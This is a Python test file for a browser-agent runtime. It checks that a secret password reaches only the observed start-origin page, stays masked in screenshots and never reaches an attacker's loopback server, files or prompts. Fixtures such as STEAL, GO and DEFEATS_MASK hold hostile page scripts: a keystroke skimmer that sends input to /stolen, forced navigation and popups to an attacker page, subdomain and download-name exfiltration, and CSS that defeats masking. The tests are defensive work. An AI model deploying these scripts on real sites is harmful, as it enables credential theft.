"""Secrets on hostile pages, in real Chromium with real loopback servers: a secret is
typed only into the document the model observed, on the start origin, masked in every
screenshot whatever the frames; and pages that set ``bid`` themselves still work.

Every test runs whole episodes and then checks that the attacker's server got nothing
and that no file of the episode, and no prompt, holds the value in any form."""

from __future__ import annotations

import asyncio
import io
import re
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from linewise.agent.models import Completion
from linewise.errors import ActionError
from linewise.records import EpisodeSummary
from linewise.runtime.browser.binding import MASK_COLOR, origin_of
from linewise.runtime.browser.chromium import Browser, BrowserSession
from linewise.runtime.browser.extraction import observe
from linewise.runtime.episode import EpisodeConfig
from linewise.runtime.redaction import REDACTOR
from linewise.runtime.secrets import Secret, SecretStore
from linewise.runtime.tasks.schema import BrowserGymTask, WebTask
from linewise.runtime.trace import read_steps
from linewise.testing import FunctionModel, bid_matching, prompt_section
from tests.runtime.test_secrets import grep_folder, leaked_forms
from tests.support.episodes import resources_of, run_episode
from tests.support.sites import Site

SECRET = "S3cr~t*P@ss! w0rd'(x)"
"""Characters that ``encodeURIComponent``, form encoding and Python's quoting each treat
differently, and a space."""

PLACEHOLDER = "<secret:password>"

STEAL = ("<script>document.addEventListener('input', e => new Image().src = "
         "'/stolen?v=' + encodeURIComponent(e.target.value || e.target.textContent))"
         "</script>")
"""An attacker's listener: any value typed anywhere in its page goes to /stolen."""

PLANTED = "".join(f"<input bid='{i}' aria-label='Password'>" for i in range(60))
"""Inputs carrying every id the model could name, under BrowserGym's attribute name."""

GO = ("<script>let done = false; setInterval(async () => {{ const r = await fetch('/go'); "
      "if ((await r.text()) === '1' && !done) {{ done = true; {action}; }} }}, 400)</script>")
"""(``str.format`` it with ``action``; ``_page`` keeps the braces as they are.)"""
"""A page that does ``action`` once the test says so (while the model thinks)."""


def _page(body: str) -> tuple[int, dict[str, str], str]:
    """A page served as written (``Site`` formats bodies: braces are doubled)."""
    html = f"<html><head><title>t</title></head><body>{body}</body></html>"
    return 200, {}, html.replace("{", "{{").replace("}", "}}")


@pytest.fixture
def servers() -> Iterator[tuple[Site, Site]]:
    """The task's site and the attacker's, on another port of the same host."""
    site, evil = Site(), Site()
    site.pages["/got"] = _page("ok")
    evil.pages["/evil"] = _page(f"<h1>Evil</h1>{PLANTED}{STEAL}")
    try:
        yield site, evil
    finally:
        site.close()
        evil.close()


@pytest.fixture(autouse=True)
def fresh_redactor() -> Iterator[None]:
    REDACTOR.clear()
    yield
    REDACTOR.clear()


Hook = Callable[[], Awaitable[None]]


class Model(FunctionModel):
    """Gives ``steps`` in order (a callable gets the page's tree); before answering call
    ``i`` it awaits ``while_thinking[i]``, as the page goes on while a model thinks."""

    def __init__(self, steps: list[str | Callable[[str], str]],
                 while_thinking: dict[int, Hook] | None = None) -> None:
        def answer(messages: list[dict[str, Any]], info: Any) -> str:
            step = steps[info.index] if info.index < len(steps) else "send_msg_to_user('done')"
            if callable(step):
                step = step(prompt_section(messages[1]["content"], "Current page"))
            return f"<action>{step}</action>"

        super().__init__(answer)
        self.while_thinking = while_thinking or {}

    async def complete(self, messages: list[dict[str, Any]], **params: Any) -> Completion:
        hook = self.while_thinking.get(len(self.requests))
        if hook is not None:
            await hook()
        return await super().complete(messages, **params)


def fill_secret(label: str) -> Callable[[str], str]:
    return lambda tree: f"fill('{bid_matching(tree, re.escape(label))}', '{PLACEHOLDER}')"


async def until(condition: Callable[[], bool], what: str) -> None:
    """Wait for ``condition`` (the page's own progress); a bound only against a hang."""
    for _ in range(400):
        if condition():
            return
        await asyncio.sleep(0.05)
    raise AssertionError(f"never happened: {what}")


async def run(browser: Browser, site: Site, path: str, model: Model, out: Path,
              allowed: tuple[str, ...] = (), screenshots: bool = False) -> EpisodeSummary:
    task = WebTask(id="secret", url=f"http://127.0.0.1:{site.port}{path}", goal="Sign in.",
                   max_steps=6, allowed_domains=(f"127.0.0.1:{site.port}", *allowed))
    store = SecretStore({"password": Secret("password", SECRET)})
    config = EpisodeConfig(secrets=store, screenshots=screenshots)
    summary = await run_episode(task, resources_of(browser, model), out, config)
    assert summary.status == "finished", summary.error
    return summary


def assert_nothing_leaked(model: Model, evil: Site, out: Path) -> None:
    assert evil.hits["/stolen"] == 0
    assert not any(form.decode() in path for path in evil.hits for form in leaked_forms(SECRET))
    assert grep_folder(out, SECRET) == []
    prompts = [str(r.messages) for r in model.requests]
    assert not any(form.decode() in p for p in prompts for form in leaked_forms(SECRET))


@pytest.mark.slow
async def test_a_page_that_navigates_while_the_model_thinks_gets_nothing(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, evil = servers
    site.pages["/login"] = _page(
        "<input aria-label='Password'>" + GO.format(action=f"location.href = 'http://127.0.0.1:{evil.port}/evil'")
    )

    async def navigate_away() -> None:
        site.pages["/go"] = (200, {}, "1")
        await until(lambda: evil.hits["/evil"] > 0, "the page navigated to the attacker")
        await asyncio.sleep(0.3)  # only lets the attacker's page run: no assertion on time

    model = Model([fill_secret("textbox 'Password'")], {0: navigate_away})
    await run(browser, site, "/login", model, tmp_path, allowed=(f"127.0.0.1:{evil.port}",))
    [first, *_] = read_steps(tmp_path / "secret")
    assert "nothing was typed" in (first.action_error or "")
    assert_nothing_leaked(model, evil, tmp_path)


@pytest.mark.slow
async def test_a_popup_from_a_cross_origin_frame_gets_nothing(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, evil = servers
    site.pages["/login"] = _page(
        "<input aria-label='Password' oninput=\"fetch('/got?v=' + "
        f"encodeURIComponent(this.value))\"><iframe src='http://127.0.0.1:{evil.port}/opener'>"
        "</iframe>"
    )
    evil.pages["/opener"] = _page(GO.format(action=f"window.open('http://127.0.0.1:{evil.port}/evil')"))

    async def open_popup() -> None:
        evil.pages["/go"] = (200, {}, "1")
        await until(lambda: evil.hits["/evil"] > 0, "the frame opened its popup")
        await asyncio.sleep(0.3)

    model = Model([fill_secret("textbox 'Password'")], {0: open_popup})
    await run(browser, site, "/login", model, tmp_path, allowed=(f"127.0.0.1:{evil.port}",))
    [first, *_] = read_steps(tmp_path / "secret")
    assert first.action_error is None
    # typed into the page the model observed, not into the popup that took the tab
    assert any(p.startswith("/got?v=S3cr") for p in site.hits)
    assert_nothing_leaked(model, evil, tmp_path)


@pytest.mark.slow
async def test_a_secret_is_not_typed_on_another_port_of_the_start_host(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, evil = servers
    evil.pages["/login"] = _page(f"<input aria-label='Password'>{STEAL}")
    model = Model([f"goto('http://127.0.0.1:{evil.port}/login')",
                   fill_secret("textbox 'Password'")])
    site.pages["/"] = _page("<h1>Start</h1>")
    await run(browser, site, "/", model, tmp_path, allowed=(f"127.0.0.1:{evil.port}",))
    steps = read_steps(tmp_path / "secret")
    assert steps[1].url == f"http://127.0.0.1:{evil.port}/login"
    assert f"may not be typed on this page (127.0.0.1:{evil.port})" in (
        steps[1].action_error or "")
    assert_nothing_leaked(model, evil, tmp_path)


FIELD = ("<input aria-label='Password' style='position: absolute; left: 40px; top: 120px; "
         "width: 400px; height: 60px; font-size: 40px; background: white !important; "
         "color: black !important'>")


@pytest.mark.slow
async def test_the_screenshot_masks_a_secret_field_beside_a_refused_file_frame(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    from PIL import Image

    site, evil = servers
    site.pages["/login"] = _page(f"{FIELD}<iframe src='file:///etc/hostname'></iframe>")
    model = Model([fill_secret("textbox 'Password'")])
    await run(browser, site, "/login", model, tmp_path, screenshots=True)
    steps = read_steps(tmp_path / "secret")
    assert "nothing was typed" not in (steps[0].action_error or "")  # typed (the frame's
    # refusal is reported)
    shot = tmp_path / "secret" / "screenshots" / "step-001.png"
    assert shot.exists(), sorted((tmp_path / "secret").rglob("*.png"))
    image = Image.open(io.BytesIO(shot.read_bytes())).convert("RGB")
    field = image.crop((40, 120, 440, 180))
    colors = field.getcolors(maxcolors=1 << 16) or []
    assert [color for _, color in colors] == [MASK_COLOR]
    assert_nothing_leaked(model, evil, tmp_path)


AUCTION = _page(
    "<h1>Lot 12</h1><div bid='12'>Current bid: 40</div>"
    "<button bid='0' onclick=\"fetch('/wrong')\">Watch</button>"
    "<button bid='1' onclick=\"fetch('/placed')\">Place bid</button>"
)
"""An auction page whose elements carry ``bid`` attributes of their own."""

def place_bid(tree: str) -> str:
    return f"click('{bid_matching(tree, re.escape(PLACE_BID_BUTTON))}')"


def place_bid_by_key(tree: str) -> str:
    # not a second click: on a page the click left unchanged that is a futile repeat
    return f"press('{bid_matching(tree, re.escape(PLACE_BID_BUTTON))}', 'Enter')"


PLACE_BID_BUTTON = "button 'Place bid'"
PLACE_BID: list[str | Callable[[str], str]] = [place_bid, place_bid_by_key]


@pytest.mark.slow
async def test_a_page_with_its_own_bid_attributes_finishes_its_episode(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, _ = servers
    site.pages["/auction"] = AUCTION
    summary = await run(browser, site, "/auction", Model(list(PLACE_BID)), tmp_path)
    assert summary.termination == "agent_done", summary
    steps = read_steps(tmp_path / "secret")
    assert [s.action_error for s in steps[:2]] == [None, None]
    assert "Current bid: 40" in steps[0].axtree
    assert site.hits["/placed"] == 2 and site.hits["/wrong"] == 0


@pytest.mark.slow
async def test_a_page_with_its_own_bid_attributes_works_in_browsergym(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, _ = servers
    site.pages["/auction"] = AUCTION
    task = BrowserGymTask(
        id="bgym-bid", browsergym="openended", max_steps=2,
        task_kwargs={"start_url": f"http://127.0.0.1:{site.port}/auction", "goal": "Bid."},
    )
    summary = await run_episode(task, resources_of(browser, Model(list(PLACE_BID))),
                                tmp_path)
    assert summary.status == "finished", summary.error
    steps = read_steps(tmp_path / "bgym-bid")
    assert [s.action_error for s in steps] == [None, None]
    assert "Current bid: 40" in steps[0].axtree
    assert site.hits["/placed"] == 2 and site.hits["/wrong"] == 0


async def test_a_bound_fill_replaces_the_text_of_every_kind_of_field(
    session: BrowserSession
) -> None:
    await session.page.set_content(
        "<input id='text' value='old'><input id='email' type='email' value='a@b.c'>"
        "<input id='password' type='password'><textarea id='area'>old text</textarea>"
        "<div id='editable' contenteditable='true'>old</div><button id='button'>b</button>"
        "<input id='off' disabled>"
        "<script>window.seen = []; document.addEventListener('input', e => "
        "window.seen.push(e.target.id))</script>"
    )
    await observe(session, screenshot=False)
    origin = origin_of(session.page.url)

    async def bid(element_id: str) -> str:
        found = await session.page.get_attribute(f"#{element_id}", session.bid_attribute)
        assert found is not None
        return found

    for element_id in ("text", "email", "password", "area", "editable"):
        await session.binding.type_secret(await bid(element_id), "x@y.z s3cr!t", origin)
    values = await session.page.evaluate(
        "['text', 'email', 'password', 'area'].map(id => document.getElementById(id).value)"
        ".concat([document.getElementById('editable').textContent])"
    )
    assert values == ["x@y.z s3cr!t"] * 5
    seen = await session.page.evaluate("window.seen")
    assert set(seen) == {"text", "email", "password", "area", "editable"}  # frameworks see it
    for element_id, why in (("button", "not a text field"), ("off", "disabled")):
        with pytest.raises(ActionError, match=why):
            await session.binding.type_secret(await bid(element_id), "v", origin)
    with pytest.raises(ActionError, match="not the observed"):
        await session.binding.type_secret(await bid("text"), "v", "http://127.0.0.1:1")


@pytest.mark.slow
async def test_a_download_named_after_the_secret_leaves_no_name_behind(
    servers: tuple[Site, Site], tmp_path: Path
) -> None:
    """A page that saves what is typed as a download's name: Chromium writes ``*`` as
    ``_`` in it (``suggested_filename``), and the file saved in the episode folder was
    named after that, squeezed to ``S3cr_t_P_ss_w0rd_x``; neither spelling may stay."""
    from linewise.runtime.browser.chromium import BrowserConfig
    from linewise.settings import NavigationSettings

    site, evil = servers

    class WithDownloads(dict[str, Any]):
        """``/copy/NAME`` is a download, named by Chromium after the URL's last part."""

        def get(self, path: str, default: Any = None) -> Any:
            if path.startswith("/copy/"):
                return 200, {"Content-Type": "application/octet-stream",
                             "Content-Disposition": "attachment"}, "x"
            return super().get(path, default)

    site.pages = WithDownloads(site.pages)
    site.pages["/login"] = _page(
        "<input aria-label='Password' onchange=\"location.href = '/copy/copy-' + "
        "encodeURIComponent(this.value) + '.txt'\"><button>Save</button>")
    model = Model([fill_secret("textbox 'Password'"),
                   lambda tree: f"click('{bid_matching(tree, 'button')}')"])
    async with Browser(BrowserConfig(navigation=NavigationSettings(downloads=True))) as own:
        await run(own, site, "/login", model, tmp_path)
    downloads = [d for step in read_steps(tmp_path / "secret") for d in step.downloads]
    assert [d.filename for d in downloads] == [f"copy-{PLACEHOLDER}.txt"]
    assert downloads[0].saved_as is not None
    assert_nothing_leaked(model, evil, tmp_path)
    for path in (tmp_path / "secret").rglob("*"):
        assert "S3cr" not in path.name and "w0rd" not in path.name, path
        if path.is_file():
            assert b"S3cr" not in path.read_bytes(), path


@pytest.mark.slow
async def test_a_secret_sent_as_a_host_name_is_redacted_in_any_case(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    """A page that sends the typed value as a subdomain: Chromium lowercases the host,
    and the refused request is recorded in the step, where the value must not be."""
    site, evil = servers
    value = "Hunter2Pass"
    site.pages["/login"] = _page(
        "<input aria-label='Password' oninput=\"fetch('http://' + this.value + "
        f"'.localhost:{evil.port}/x', {{mode: 'no-cors'}}).catch(() => 0)\">")
    task = WebTask(id="secret", url=f"http://127.0.0.1:{site.port}/login", goal="Sign in.",
                   max_steps=3)
    model = Model([fill_secret("textbox 'Password'"), "noop(500)"])
    config = EpisodeConfig(secrets=SecretStore({"password": Secret("password", value)}))
    summary = await run_episode(task, resources_of(browser, model), tmp_path, config)
    assert summary.status == "finished", summary.error
    hosts = [c.host for s in read_steps(tmp_path / "secret") for c in s.refused_connections]
    assert f"{PLACEHOLDER}.localhost:{evil.port}" in hosts, hosts
    assert sum(evil.hits.values()) == 0
    for path in (tmp_path / "secret").rglob("*"):
        if path.is_file():
            assert b"hunter2pass" not in path.read_bytes().lower(), path


DEFEATS_MASK = """<style>
  body { margin: 0; background: white; }
  input { border: none; outline: none; }
  html body input#pw[aria-label] { color: rgb(255, 0, 0) !important;
    -webkit-text-fill-color: rgb(255, 0, 0) !important; background: white !important;
    position: absolute; left: 40px; top: 40px; width: 420px; height: 50px;
    font: 40px monospace; animation: hop 0.1s steps(1) infinite; }
  @keyframes hop { 0% { transform: translateX(0); } 50% { transform: translateX(480px); } }
  #echo { position: absolute; left: 40px; top: 200px; margin: 0; color: rgb(255, 0, 0);
    font: 40px monospace; white-space: pre; }
</style>
<input id=pw aria-label='Password'
  oninput="document.getElementById('echo').textContent = 'Copy: ' + this.value">
<p id=echo></p>"""
"""A page that defeats each screenshot mask of before: a rule more specific than the
mask's own recolours the field red, an animation hops it 480 px every 50 ms (so the
capture and the boxes read after it disagree), and the value is echoed as red text."""


def _red(pixel: tuple[int, int, int]) -> bool:
    r, g, b = pixel
    return r > 150 and g < 120 and b < 120


@pytest.mark.slow
async def test_the_screenshot_masks_a_recoloured_moving_field_and_echoed_text(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    from PIL import Image

    site, evil = servers
    site.pages["/login"] = _page(DEFEATS_MASK)
    model = Model([fill_secret("textbox 'Password'"), *[f"noop({30 + i})" for i in range(4)]])
    await run(browser, site, "/login", model, tmp_path, screenshots=True)
    shots = sorted((tmp_path / "secret" / "screenshots").glob("step-*.png"))[1:]
    assert len(shots) >= 4, shots
    for shot in shots:
        image = Image.open(io.BytesIO(shot.read_bytes())).convert("RGB")
        width, height = image.size
        pixels = image.load()
        red = [(x, y) for y in range(height) for x in range(width) if _red(pixels[x, y])]
        # Only "Copy: " may be red: it ends 6 monospace characters (24 px each) from 40 px.
        leaked = [(x, y) for x, y in red if not (y >= 190 and x < 40 + 6 * 24 + 2)]
        assert leaked == [], (shot.name, len(leaked), leaked[:5])
        assert any(_red(pixels[x, y]) for x in range(40, 160) for y in range(200, 250)), \
            "the echo's prefix is on the page"
    assert_nothing_leaked(model, evil, tmp_path)
